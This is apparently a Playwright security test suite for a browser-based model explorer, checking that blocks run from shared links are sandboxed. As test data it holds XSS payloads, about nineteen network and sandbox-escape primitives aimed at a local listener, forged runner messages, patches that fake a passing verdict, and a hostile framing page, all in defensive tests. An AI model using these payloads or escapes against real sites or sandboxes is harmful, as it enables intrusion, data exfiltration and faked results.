/**
 * Issue 9 in the browser: a block from a stranger's link, run with one click, against a page
 * served as a plain static host serves it (no security headers: the page's own defences only).
 * Each check below failed on the code before issue 9 (see the issue's closing note):
 * - forged runner messages with HTML in every field, and a forged "pass": ignored;
 * - HTML in console output, in an error, in expect's message and in a counterexample: text;
 * - every network or escape primitive, against a listener on another port: nothing arrives;
 * - `import()` of any kind: refused at its line before the block runs;
 * - a block patching the explorer to fake its result: the patch does not take;
 * - a CSP <meta> on every page; with the headers `npm start` sends, no framing from elsewhere.
 * A side channel catches script in the page: every payload sets `window.__pwned`, and no element
 * the payloads would create may exist.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { SECURITY_HEADERS } from '../../src/live/build/csp.ts';
import { encodeCode } from '../../src/live/page/permalink.ts';
import { serve } from './serve.ts';

class AttackFailure extends Error {}
function check(cond: unknown, message: string): asserts cond {
  if (!cond)
    throw new AttackFailure(`attacks: ${message.length > 400 ? `${message.slice(0, 400)}…` : message}`);
}

/** Every payload runs `window.__pwned = n` if it ever becomes markup or script in the page. */
const PAYLOADS = [
  `<img src=x onerror="window.__pwned=1">`,
  `<svg onload="window.__pwned=2"></svg>`,
  `<script>window.__pwned=3</script>`,
  `"><img src=x onerror="window.__pwned=4">`,
];
const P = PAYLOADS.join('');

/** A server on another port that counts whatever reaches it (HTTP requests and upgrades). */
async function listener(): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('self.__escaped = 1;');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const a = server.address();
  return { server, port: typeof a === 'object' && a ? a.port : 0, hits };
}

async function injected(page: Page): Promise<string | null> {
  return page.evaluate(() => {
    const w = window as unknown as { __pwned?: number };
    if (w.__pwned !== undefined) return `window.__pwned = ${w.__pwned}`;
    const bad = [...document.querySelectorAll('img[src="x"], [onerror], [onload], script')].find(
      (e) => e.tagName !== 'SCRIPT' || (e.textContent ?? '').includes('__pwned'),
    );
    return bad ? `an injected <${bad.tagName.toLowerCase()}> in the page` : null;
  });
}

/** Open the block `id` of `path` with `code` from a link, click Run, wait for the verdict. */
async function runFromLink(page: Page, base: string, path: string, id: string, code: string) {
  await page.goto('about:blank');
  await page.goto(`${base}${path}#spec-${id}~${encodeCode(code)}`);
  const b = page.locator(`spec-block#spec-${id}`);
  await b.locator('.spec-edited').waitFor({ state: 'visible' });
  check((await b.getAttribute('data-state')) === null, `${path}: a link ran before the click`);
  await b.locator('button[data-act="run"]').click();
  await b.locator('output .spec-status').waitFor({ timeout: 20_000 });
  return {
    block: b,
    state: (await b.getAttribute('data-state')) ?? '',
    text: (await b.locator('output').textContent()) ?? '',
  };
}

const FORGE = `
const H = ${JSON.stringify(P)};
const step = { index: H, thread: H, label: H, kind: H, mutex: H, changes: [{ key: H, before: H, after: H }], reads: [H], racesWith: [H], preemption: H };
const cex = { schedule: H, assertion: H, message: H, text: H, threads: [H], preemptions: H, minimal: H, steps: [step, { ...step, index: 0 }] };
const forged = [
  { type: 'explore', result: { index: 0, model: H, strategy: 'replay', verdict: H, text: H, counts: { executions: H, traces: H }, counterexample: cex } },
  { type: 'log', level: H, text: H },
  { type: 'progress', model: H, executions: H, perSec: H },
  { type: 'done', status: 'pass', ms: 1, error: { name: H, message: H, at: null } },
];
const g = globalThis as any;
const routes = [
  (m: unknown) => g.postMessage(m),
  (m: unknown) => self.postMessage(m),
  (m: unknown) => Object.getPrototypeOf(g).postMessage.call(g, m),
  (m: unknown) => g.DedicatedWorkerGlobalScope.prototype.postMessage.call(g, m),
];
let sent = 0;
for (const m of forged) for (const r of routes) { try { r(m); sent++; } catch {} }
console.log('forged messages sent: ' + sent);
throw new Error('this block fails, whatever it posted');
`;

const HOSTILE_MODEL = `import { defineModel, explore } from 'mmspec/explorer';
const H = ${JSON.stringify(P)};
const m = defineModel('model ' + H, (m) => {
  const x = m.cell('x' + H, 0);
  for (const t of ['A', 'B'])
    m.thread(t, function* () {
      yield 'load ' + H;
      const v = x.load();
      yield 'store ' + H;
      x.store(v + 1);
    });
  m.final('lost ' + H, () => x.load() === 2 || 'lost ' + H);
});
const r = explore(m);
console.log('log ' + H);
console.error(H);
expect(r.verdict).toBe(H);
`;

const THROW_HTML = `throw new Error(${JSON.stringify(`error ${P}`)});`;

const PATCH = `import * as ex from 'mmspec/explorer';
const lost = ex.defineModel('lost update', (m) => {
  const x = m.cell('x', 0);
  for (const t of ['A', 'B'])
    m.thread(t, function* () { yield 'load'; const v = x.load(); yield 'store'; x.store(v + 1); });
  m.final('no increment is lost', () => x.load() === 2);
});
const fake = () => ({ verdict: 'holds', counts: {}, counterexample: null, text: 'faked' });
const tries = [
  () => { (ex.Exploration.prototype as any).result = fake; },
  () => { (ex.Exploration.prototype as any).run = fake; },
  () => Object.defineProperty(ex.Exploration.prototype, 'runSlice', { value: () => ({ done: true }) }),
  () => { (ex as any).explore = fake; },
];
let took = 0;
for (const t of tries) { try { t(); took++; } catch {} }
console.log('patches that took: ' + took);
expect(ex.explore(lost).verdict).toBe('holds');
`;

function network(port: number): string {
  const url = `http://127.0.0.1:${port}/`;
  return `const url = ${JSON.stringify(url)};
const g = globalThis as any;
const tries: Record<string, () => unknown> = {
  fetch: () => g.fetch(url + 'fetch'),
  XMLHttpRequest: () => { const x = new g.XMLHttpRequest(); x.open('GET', url + 'xhr'); x.send(); },
  WebSocket: () => new g.WebSocket(url.replace('http', 'ws') + 'ws'),
  EventSource: () => new g.EventSource(url + 'sse'),
  importScripts: () => g.importScripts(url + 'importScripts.js'),
  Worker: () => new g.Worker(url + 'worker.js'),
  blobWorker: () => new g.Worker(URL.createObjectURL(new Blob(["fetch('" + url + "blob-worker')"], { type: 'text/javascript' }))),
  SharedWorker: () => new g.SharedWorker(url + 'shared.js'),
  eval: () => g.eval("import('" + url + "eval.js')"),
  Function: () => Function("return import('" + url + "function.js')")(),
  asyncFunction: () => (async () => {}).constructor("return import('" + url + "async.js')")(),
  generatorFunction: () => (function* () {}).constructor("yield import('" + url + "gen.js')")().next(),
  stringTimer: () => g.setTimeout("import('" + url + "timer.js')", 0),
  indexedDB: () => g.indexedDB.open('mmspec-attack'),
  caches: () => g.caches.open('mmspec-attack'),
  BroadcastChannel: () => new g.BroadcastChannel('mmspec').postMessage('hi'),
  sendBeacon: () => g.navigator.sendBeacon(url + 'beacon'),
  storage: () => g.navigator.storage.getDirectory(),
  serviceWorker: () => g.navigator.serviceWorker.register(url + 'sw.js'),
};
const open: string[] = [];
for (const [name, t] of Object.entries(tries)) {
  try {
    const r = t();
    if (r && typeof (r as any).catch === 'function') (r as any).catch(() => {});
    open.push(name);
  } catch {}
}
console.log('tried ' + Object.keys(tries).length + '; open: [' + open.join(', ') + ']');
`;
}

function pages(dist: string): string[] {
  return readdirSync(dist, { recursive: true })
    .map(String)
    .filter((f) => f.endsWith('.html'));
}

export async function attacks(context: BrowserContext, base: string, dist: string): Promise<void> {
  const net = await listener();
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  try {
    const path = '/explorer/';
    await page.goto(base + path);
    const id = ((await page.locator('spec-block').first().getAttribute('id')) ?? '').replace(/^spec-/, '');
    check(id, 'no block on the explorer page');

    const failures: string[] = [];
    const section = async (f: () => Promise<void>) => {
      try {
        await f();
      } catch (e) {
        const m = e instanceof Error ? e.message.split('\n')[0] : String(e);
        failures.push(m);
        console.log(`  ✗ ${m}`);
      }
    };
    let r: Awaited<ReturnType<typeof runFromLink>>;
    // Forged messages: the block posts its own results and a "pass", then fails.
    await section(async () => {
      r = await runFromLink(page, base, path, id, FORGE);
      check(r.state === 'fail', `forged messages: expected fail, got ${r.state}: ${r.text}`);
      check(r.text.includes('this block fails, whatever it posted'), `forged messages: ${r.text}`);
      check(
        (await r.block.locator('.spec-explore').count()) === 0,
        'forged messages: a forged exploration is shown',
      );
      check(r.text.includes('forged messages sent: 0'), `forged messages: the block could post: ${r.text}`);
      check((await injected(page)) === null, `forged messages: ${await injected(page)}`);
      console.log('  ✓ forged runner messages (HTML in every field, a "pass") are never seen by the page');
    });
    await section(async () => {
      // HTML through the legitimate channels: logs, expect's message, a counterexample.
      r = await runFromLink(page, base, path, id, HOSTILE_MODEL);
      check(r.state === 'fail', `hostile model: expected fail, got ${r.state}`);
      await r.block.locator('.spec-trace-view').waitFor({ timeout: 10_000 });
      check(
        r.text.includes(`log ${P}`) && r.text.includes(`to be '${P.slice(0, 20)}`),
        `hostile model: HTML not shown as text: ${r.text}`,
      );
      const label = await r.block.locator('.spec-trace-view svg title', { hasText: 'load <img' }).count();
      check(label > 0, 'hostile model: the step label is not drawn as text in the figure');
      await r.block.locator('.spec-trace-view button[data-step="next"]').click();
      check((await injected(page)) === null, `hostile model: ${await injected(page)}`);
      r = await runFromLink(page, base, path, id, THROW_HTML);
      check(r.state === 'fail' && r.text.includes(`error ${P}`), `thrown HTML: ${r.state} ${r.text}`);
      check((await injected(page)) === null, `thrown HTML: ${await injected(page)}`);
      console.log('  ✓ HTML in console output, expect messages, errors and counterexamples is text');
    });
    await section(async () => {
      // Network and escapes: nothing reaches the listener.
      r = await runFromLink(page, base, path, id, network(net.port));
      await page.waitForTimeout(1500);
      check(r.state === 'pass', `network: the block should run to its end: ${r.state} ${r.text}`);
      const tried = Number(/tried (\d+); open: \[\]/.exec(r.text)?.[1] ?? 0);
      check(tried >= 19, `network: primitives left open (or not tried): ${r.text}`);
      check(net.hits.length === 0, `network: the listener got ${net.hits.join(', ')}`);
      console.log(
        `  ✓ ${tried} network and escape primitives refused; the listener on another port got nothing`,
      );
    });
    await section(async () => {
      // import(), static or dynamic, literal or computed: refused at its line, before running.
      const imports = [
        [`const m = await import('http://127.0.0.1:${net.port}/dyn.js');`, 1],
        [`const u = 'http://127.0.0.1:${net.port}/' + 'expr.js';\nconst m = await import(u);`, 2],
        [`console.log('ran');\nconst m = await import('mmspec');`, 2],
        [`import x from 'http://127.0.0.1:${net.port}/static.js';`, 1],
      ] as const;
      for (const [code, line] of imports) {
        r = await runFromLink(page, base, path, id, code);
        check(r.state === 'error', `import: expected a refusal, got ${r.state}: ${r.text}`);
        check(r.text.includes(`at line ${line} of the block`), `import: no line ${line}: ${r.text}`);
        check(!r.text.includes('ran'), `import: the block ran before the refusal: ${r.text}`);
      }
      await page.waitForTimeout(500);
      check(net.hits.length === 0, `import: the listener got ${net.hits.join(', ')}`);
      console.log(`  ✓ ${imports.length} kinds of import refused at their line; nothing fetched`);
    });
    await section(async () => {
      // Faking a pass by patching the explorer.
      r = await runFromLink(page, base, path, id, PATCH);
      check(r.state === 'fail', `patched explorer: expected fail, got ${r.state}: ${r.text}`);
      check(r.text.includes('patches that took: 0'), `patched explorer: ${r.text}`);
      console.log('  ✓ a block cannot patch the explorer to fake its verdict');
    });
    await section(async () => csp(context, dist));
    check(failures.length === 0, `${failures.length} attack(s) succeeded:\n${failures.join('\n')}`);
    check(errors.length === 0, `page errors: ${errors.join('; ')}`);
  } finally {
    await page.close();
    net.server.close();
  }
}

async function csp(context: BrowserContext, dist: string): Promise<void> {
  // A CSP on every page: scripts only from the site's files or by hash, no plugins, no <base>.
  const all = pages(dist);
  for (const f of all) {
    const html = readFileSync(join(dist, f), 'utf8');
    const meta = /<head\b[^>]*><meta http-equiv="content-security-policy" content="([^"]+)">/.exec(html);
    check(meta, `${f}: no CSP <meta> first in <head>`);
    const policy = meta[1];
    check(
      /script-src 'self'/.test(policy) && !/script-src[^;]*'unsafe-(inline|eval)'/.test(policy),
      `${f}: weak script-src: ${policy}`,
    );
    check(/object-src 'none'/.test(policy) && /base-uri 'self'/.test(policy), `${f}: ${policy}`);
  }
  console.log(
    `  ✓ a CSP <meta> on all ${all.length} pages (script-src without 'unsafe-inline'/'unsafe-eval')`,
  );

  // With the headers `npm start` sends: no framing from another origin.
  const site = await serve(dist, 0, undefined, SECURITY_HEADERS);
  const evil = createServer((_, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<!doctype html><iframe id="f" src="${site.url}/explorer/"></iframe>`);
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  const ea = evil.address();
  const framer = await context.newPage();
  try {
    await framer.goto(`http://127.0.0.1:${typeof ea === 'object' && ea ? ea.port : 0}/`);
    await framer.waitForTimeout(1500);
    const child = framer.frames().find((f) => f !== framer.mainFrame());
    const blocks = child
      ? await child
          .locator('spec-block')
          .count()
          .catch(() => 0)
      : 0;
    check(blocks === 0, 'framing: the site loaded inside another origin’s iframe');
    const head = await fetch(`${site.url}/explorer/`);
    check(/frame-ancestors 'none'/.test(head.headers.get('content-security-policy') ?? ''), 'no CSP header');
    console.log("  ✓ with the served headers, another origin cannot frame the site (frame-ancestors 'none')");
  } finally {
    await framer.close();
    evil.close();
    site.server.close();
  }
}
